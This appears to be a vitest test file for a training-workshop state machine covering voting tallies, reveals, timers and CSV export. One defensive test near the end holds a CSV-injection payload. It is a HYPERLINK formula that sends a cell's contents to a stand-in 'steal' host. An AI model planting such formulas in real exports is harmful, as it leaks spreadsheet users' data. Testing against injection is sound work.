import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createActor } from 'xstate';
import type { CalibrationModule, ScenarioModule } from '../domain/catalog.ts';
import { contentHash } from '../domain/hash.ts';
import { score } from '../domain/score.ts';
import { findNode, optionLevel, type ChoiceNode } from '../domain/scenario.ts';
import { audienceView, stepContent, workshopCsv, type WorkshopContent, type WorkshopRecord } from '../domain/workshop.ts';
import { loadContent } from '../../tools/content-loader.ts';
import { workshopMachine, type WorkshopSnapshot } from './workshop.ts';

const root = join(import.meta.dirname, '../..');
const content = loadContent(join(root, 'scenarios'), root);
const scenario = content.scenarios.find((s) => s.value.id === 'clashing-appointments')!.value;
const rubrics = scenario.competencies.map((id) => content.rubrics.get(id)!.value);
const scenarioModule: ScenarioModule = { scenario, rubrics, contentHash: contentHash(scenario) };
const set = content.calibration.find((c) => c.value.id === 'cal-s08-q1')!.value;
const setModule: CalibrationModule = { set, rubric: content.rubrics.get(set.competency)!.value, contentHash: contentHash(set) };
const onScenario: WorkshopContent = { kind: 'scenario', module: scenarioModule };
const onSet: WorkshopContent = { kind: 'calibration', module: setModule };

const node = (id: string) => findNode(scenario, id) as ChoiceNode;
const best = (id: string) => node(id).options.reduce((a, b) => (optionLevel(b) > optionLevel(a) ? b : a));
const worst = (id: string) => node(id).options.reduce((a, b) => (optionLevel(b) < optionLevel(a) ? b : a));
const stateOf = (s: WorkshopSnapshot) => ({ ...s.context, phase: s.value as never });

function start(on: WorkshopContent) {
  const actor = createActor(workshopMachine(on)).start();
  return actor;
}

/** One step in full: present → tally (the given counts) → reveal → discuss → next. */
function step(actor: ReturnType<typeof start>, counts: Record<string, number>, follow?: string) {
  actor.send({ type: 'TALLY' });
  for (const [choiceId, count] of Object.entries(counts)) actor.send({ type: 'COUNT', choiceId, count });
  actor.send({ type: 'REVEAL' });
  actor.send({ type: 'DISCUSS' });
  actor.send({ type: 'NEXT', ...(follow ? { follow } : {}) });
}

describe('a workshop on a scenario', () => {
  it('follows the room’s most chosen option through the branches to the end and scores the room’s path as a run', () => {
    const actor = start(onScenario);
    const seen: string[] = [];
    while (actor.getSnapshot().status !== 'done') {
      const at = actor.getSnapshot().context.stepId;
      seen.push(at);
      // Most of the room picks the strongest option, a few the weakest.
      step(actor, { [best(at).id]: 12, [worst(at).id]: 3 });
    }
    const { steps, answers } = actor.getSnapshot().context;
    expect(seen[0]).toBe('opening');
    // Strong answers so far: the branch after Wednesday raises the stakes.
    expect(seen[2]).toBe('three-way-clash');
    expect(steps.map((s) => s.followed)).toEqual(seen.map((id) => best(id).id));
    expect(steps.every((s) => s.levels[best(s.stepId).id] === optionLevel(best(s.stepId)))).toBe(true);
    const view = audienceView(onScenario, stateOf(actor.getSnapshot()));
    const expected = score(answers, new Map(rubrics.map((r) => [r.id, r])), scenario.competencies);
    expect(view.levels).toEqual(Object.fromEntries(expected.map((s) => [s.competency, s.result!.level])));
    expect(view.summary!.map((r) => r.atBest)).toEqual(seen.map(() => 0.8));
    expect(view.lines.length).toBeGreaterThan(0); // the end node's closing lines
  });

  it('lets the trainer go on with another option than the room’s, and a weak room meets the probing branch', () => {
    const actor = start(onScenario);
    step(actor, { [best('opening').id]: 20 }, worst('opening').id);
    step(actor, { [worst('wednesday').id]: 20 });
    const { steps, stepId } = actor.getSnapshot().context;
    expect(steps[0]!.followed).toBe(worst('opening').id);
    expect(stepId).toBe('manager-nudge');
  });

  it('breaks a tie for the option listed first, and with nobody counted follows the first option', () => {
    const actor = start(onScenario);
    const [a, b] = node('opening').options;
    step(actor, { [b!.id]: 4, [a!.id]: 4 });
    expect(actor.getSnapshot().context.steps[0]!.followed).toBe(a!.id);
    step(actor, {});
    expect(actor.getSnapshot().context.steps[1]!.followed).toBe(node('wednesday').options[0]!.id);
  });

  it('keeps counts whole and within 0–9999, ignores unknown choices and lets the trainer go back to correct them', () => {
    const actor = start(onScenario);
    const id = node('opening').options[0]!.id;
    actor.send({ type: 'COUNT', choiceId: id, count: 5 });
    expect(actor.getSnapshot().context.tally).toEqual({}); // not counting yet: the room is still reading
    actor.send({ type: 'TALLY' });
    actor.send({ type: 'COUNT', choiceId: id, count: 5.7 });
    actor.send({ type: 'ADD', choiceId: id, delta: -9 });
    actor.send({ type: 'ADD', choiceId: 'no-such-option', delta: 1 });
    expect(actor.getSnapshot().context.tally).toEqual({ [id]: 0 });
    actor.send({ type: 'COUNT', choiceId: id, count: 1e9 });
    actor.send({ type: 'COUNT', choiceId: id, count: Number.NaN });
    expect(actor.getSnapshot().context.tally).toEqual({ [id]: 9999 });
    actor.send({ type: 'REVEAL' });
    actor.send({ type: 'BACK' });
    expect(actor.getSnapshot().value).toBe('tally');
    actor.send({ type: 'ADD', choiceId: id, delta: -9990 });
    expect(actor.getSnapshot().context.tally[id]).toBe(9);
  });

  it('shows the audience no level or feedback before the reveal, and both after it', () => {
    const actor = start(onScenario);
    const present = audienceView(onScenario, stateOf(actor.getSnapshot()));
    expect(present.choices.length).toBe(node('opening').options.length);
    expect(present.choices.some((c) => 'level' in c || 'feedback' in c)).toBe(false);
    expect(present.tally).toBeUndefined();
    actor.send({ type: 'TALLY' });
    expect(audienceView(onScenario, stateOf(actor.getSnapshot())).choices.some((c) => 'level' in c)).toBe(false);
    actor.send({ type: 'REVEAL' });
    const revealed = audienceView(onScenario, stateOf(actor.getSnapshot()));
    expect(revealed.choices.map((c) => c.level)).toEqual(stepContent(onScenario, 'opening')!.choices.map((c) => c.level));
    expect(revealed.choices.every((c) => c.feedback)).toBe(true);
  });

  it('keeps a discussion timer in its state, so a reload and the other window agree; going back stops it', () => {
    const actor = start(onScenario);
    actor.send({ type: 'TALLY' });
    actor.send({ type: 'REVEAL' });
    actor.send({ type: 'DISCUSS' });
    actor.send({ type: 'TIMER', seconds: 120, at: 1_000 });
    expect(actor.getSnapshot().context.discussUntil).toBe(121_000);
    const restored = createActor(workshopMachine(onScenario), { snapshot: actor.getPersistedSnapshot() }).start();
    expect(restored.getSnapshot().value).toBe('discuss');
    expect(restored.getSnapshot().context.discussUntil).toBe(121_000);
    restored.send({ type: 'BACK' });
    expect(restored.getSnapshot().context.discussUntil).toBeNull();
  });
});

describe('a workshop on a calibration set', () => {
  it('goes through every sample in order, revealing the reference only after the tally', () => {
    const actor = start(onSet);
    const seen: string[] = [];
    while (actor.getSnapshot().status !== 'done') {
      const at = actor.getSnapshot().context.stepId;
      seen.push(at);
      expect(audienceView(onSet, stateOf(actor.getSnapshot())).reference).toBeUndefined();
      actor.send({ type: 'TALLY' });
      actor.send({ type: 'COUNT', choiceId: '3', count: 5 });
      actor.send({ type: 'COUNT', choiceId: '4', count: 2 });
      actor.send({ type: 'REVEAL' });
      const view = audienceView(onSet, stateOf(actor.getSnapshot()));
      expect(view.reference!.level).toBe(set.samples.find((s) => s.id === at)!.level);
      expect(view.question).toBeDefined();
      actor.send({ type: 'DISCUSS' });
      expect(audienceView(onSet, stateOf(actor.getSnapshot())).focus!.spread).toEqual({ low: 3, high: 4 });
      actor.send({ type: 'NEXT' });
    }
    expect(seen).toEqual(set.samples.map((s) => s.id));
    const summary = audienceView(onSet, stateOf(actor.getSnapshot())).summary!;
    const atReference = set.samples.map((s) => (s.level === 3 ? 5 / 7 : s.level === 4 ? 2 / 7 : 0));
    expect(summary.map((r) => r.atBest)).toEqual(atReference);
  });
});

it('workshopCsv gives one row per choice per step, quoting what a spreadsheet would split', () => {
  const actor = start(onScenario);
  step(actor, { [node('opening').options[1]!.id]: 7 });
  const { steps } = actor.getSnapshot().context;
  const record: WorkshopRecord = { v: 1, kind: 'workshop', id: 'w1', source: actor.getSnapshot().context.source, contentHash: 'x', startedAt: 0, finishedAt: 1, steps };
  const csv = workshopCsv(record, onScenario, 'en');
  const lines = csv.trimEnd().split('\r\n');
  expect(lines[0]).toBe('workshop,source,source_id,step,step_id,choice,choice_id,text,level,count,followed_or_reference');
  expect(lines).toHaveLength(1 + node('opening').options.length);
  const row = lines[2]!;
  expect(row.startsWith(`w1,scenario,clashing-appointments,1,opening,B,${node('opening').options[1]!.id},`)).toBe(true);
  expect(row.endsWith(',7,followed')).toBe(true);
  // Option texts carry commas: they are quoted, so every row splits into the header's 11 cells.
  expect(lines.map((l) => cells(l).length)).toEqual(lines.map(() => 11));
  expect(cells(row)[7]).toBe(node('opening').options[1]!.text.en);
});

it('workshopCsv writes an option that begins =HYPERLINK(…) as text, not as a live formula (CSV injection)', () => {
  const formula = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for your score")';
  const actor = start(onScenario);
  step(actor, { [node('opening').options[1]!.id]: 3 });
  const { steps } = actor.getSnapshot().context;
  const record: WorkshopRecord = { v: 1, kind: 'workshop', id: 'w1', source: actor.getSnapshot().context.source, contentHash: 'x', startedAt: 0, finishedAt: 1, steps };
  const hostile = structuredClone(scenarioModule);
  const option = (hostile.scenario.nodes.find((n) => n.id === 'opening') as ChoiceNode).options[1]!;
  option.text = { vi: formula, en: formula };
  const row = workshopCsv(record, { kind: 'scenario', module: hostile }, 'en').split('\r\n')[2]!;
  // The cell a spreadsheet reads starts with a quote, which shows it as text.
  expect(cells(row)[7]).toBe(`'${formula}`);
  expect(cells(row).every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
});

/** Splits one CSV line as a spreadsheet does (RFC 4180 quoting). */
function cells(line: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (quoted && ch === '"' && line[i + 1] === '"') (cell += '"'), i++;
    else if (ch === '"') quoted = !quoted;
    else if (ch === ',' && !quoted) out.push(cell), (cell = '');
    else cell += ch;
  }
  return [...out, cell];
}
